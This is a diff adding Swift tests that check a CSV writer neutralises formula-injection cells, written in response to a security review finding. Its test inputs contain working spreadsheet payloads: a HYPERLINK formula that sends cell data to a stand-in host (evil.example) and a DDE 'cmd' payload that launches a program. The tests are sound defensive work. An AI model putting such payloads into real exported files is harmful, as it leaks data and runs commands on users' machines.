@@ -53,3 +53,31 @@ struct CSVWriterTests {
         #expect(XLSXHonorListWriter.escape("Nguyễn Thị Ngọc Hân") == "Nguyễn Thị Ngọc Hân")
     }
 }
+
+@Suite("CSV formula injection (security review F5)")
+struct CSVFormulaTests {
+    @Test(
+        "A text cell that starts like a formula is written as text with a leading apostrophe",
+        arguments: [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1, \"Bấm\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1, \"\"Bấm\"\")\""),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("+84 912 345 678", "'+84 912 345 678"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"), ("＝1+1", "'＝1+1"), ("＠x", "'＠x"), ("－1", "'－1"), ("＋1", "'＋1"),
+            ("\rx", "\"'\rx\""),
+        ])
+    func neutralised(input: String, expected: String) {
+        #expect(CSVWriter.escape(input) == expected)
+    }
+
+    @Test(
+        "Numbers thidua writes, and ordinary text, are left as they are",
+        arguments: ["540000", "-3", "-0.5", "0.3", "Nguyễn Văn A", "Tổ 1-2"])
+    func untouched(input: String) {
+        #expect(CSVWriter.escape(input) == input)
+    }
+
+    @Test("A decimal comma is quoted (it is a separator), not neutralised")
+    func decimalComma() {
+        #expect(CSVWriter.escape("88,5") == "\"88,5\"")
+        #expect(CSVWriter.escape("-88,5") == "\"-88,5\"")
+    }
+}
